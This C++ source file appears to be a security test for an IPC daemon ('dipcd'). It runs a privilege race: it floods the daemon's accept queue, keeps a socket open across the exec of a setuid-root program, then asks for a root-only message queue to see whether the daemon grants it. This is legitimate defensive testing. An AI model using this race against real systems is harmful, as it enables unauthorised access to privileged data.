// credrace: the capabilities race of issue 8 item 1, as a hostile local user would run it.
//
//   credrace QID SETUID_PROGRAM TRIALS
//
// Each trial: a child connects to dipcd ($DIPC_SOCKET), forks a grandchild that keeps the connection, and execs a
// setuid-root program (which lives until killed). Just before, it queues many other connections so the daemon
// accepts the one that matters late. Once the exec is visible (euid 0 in /proc/<child>/status), the grandchild asks
// for IPC_STAT of root's 0600 queue QID over the inherited connection. A daemon that learnt the connection's rights
// after the exec (from /proc) would answer it. Prints "granted=N refused=M other=K"; exit 0.
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/ipc.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>

#include "common/frame.h"
#include "common/unix_socket.h"
#include "ipc/protocol.h"

namespace {

bool euid_is_root(pid_t pid) {
  std::ifstream f("/proc/" + std::to_string(pid) + "/status");
  std::string line;
  while (std::getline(f, line))
    if (line.rfind("Uid:", 0) == 0) {
      unsigned r, e;
      return sscanf(line.c_str() + 4, "%u %u", &r, &e) == 2 && e == 0;
    }
  return false;
}

// One MsgCtl(IPC_STAT) request on fd; returns the response status, or -1 on a broken connection.
int ipc_stat(int fd, int qid) {
  dipc::ipc::MsgCtlReq q;
  q.id = qid;
  q.cmd = IPC_STAT;
  dipc::Bytes req;
  dipc::append_frame(req, dipc::FrameHeader{dipc::FrameKind::kRequest, dipc::ipc::kMsgCtl, 1, 0, 0},
                     dipc::ipc::encode_body(q));
  if (send(fd, req.data(), req.size(), MSG_NOSIGNAL) != static_cast<ssize_t>(req.size())) return -1;
  dipc::FrameParser parser;
  uint8_t buf[4096];
  for (;;) {
    dipc::FrameParser::Frame f;
    if (parser.next(f)) return f.header.status;
    ssize_t n = recv(fd, buf, sizeof buf, 0);
    if (n <= 0) return -1;
    parser.feed(buf, static_cast<size_t>(n));
  }
}

// One trial; writes its result to `report`: 'G' granted, 'R' refused, 'O' other.
[[noreturn]] void trial(int qid, const char* setuid_prog, int report) {
  std::vector<int> flood;
  for (int i = 0; i < 150; ++i) {
    auto c = dipc::unix_connect(dipc::default_socket_name());
    if (c) flood.push_back(*c);
  }
  auto fd = dipc::unix_connect(dipc::default_socket_name());
  if (!fd) {
    (void)!write(report, "O", 1);
    _exit(0);
  }
  fcntl(*fd, F_SETFD, 0);  // kept across the exec, as an attacker would
  pid_t self = getpid();
  if (fork() == 0) {
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(5);
    char r = 'O';
    while (!euid_is_root(self) && std::chrono::steady_clock::now() < deadline) sched_yield();
    if (euid_is_root(self)) {
      int st = ipc_stat(*fd, qid);
      r = st == 0 ? 'G' : st == EACCES ? 'R' : 'O';
    }
    kill(self, SIGKILL);
    (void)!write(report, &r, 1);
    _exit(0);
  }
  execl(setuid_prog, setuid_prog, "-f", "/dev/null", static_cast<char*>(nullptr));
  _exit(3);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: credrace QID SETUID_PROGRAM TRIALS\n");
    return 2;
  }
  prctl(PR_SET_CHILD_SUBREAPER, 1);  // the grandchildren are ours to reap
  int qid = atoi(argv[1]);
  int trials = atoi(argv[3]);
  int granted = 0, refused = 0, other = 0;
  for (int t = 0; t < trials; ++t) {
    int p[2];
    if (pipe2(p, O_CLOEXEC) != 0) return 1;
    if (fork() == 0) {
      close(p[0]);
      trial(qid, argv[2], p[1]);
    }
    close(p[1]);
    char r = 'O';
    if (read(p[0], &r, 1) != 1) r = 'O';  // every writer gone without a word
    close(p[0]);
    granted += r == 'G';
    refused += r == 'R';
    other += r == 'O';
    while (waitpid(-1, nullptr, 0) > 0) {
    }
  }
  printf("granted=%d refused=%d other=%d\n", granted, refused, other);
  return 0;
}
